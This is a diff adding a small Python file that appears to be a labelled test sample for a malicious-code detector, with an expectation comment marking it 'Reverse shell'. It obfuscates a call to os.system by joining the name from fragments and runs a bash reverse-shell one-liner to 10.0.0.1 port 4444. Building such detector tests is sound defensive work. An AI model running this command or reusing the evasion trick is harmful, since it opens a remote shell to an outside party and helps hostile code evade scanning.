@@ -0,0 +1,5 @@
+# 通过vars()取得模块字典后按拼接的名字分派
+# detect-expect: 'IsMalicious': True, 'Desc': 'Reverse shell'
+import os
+
+vars(os)["".join(["sys", "tem"])]("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1")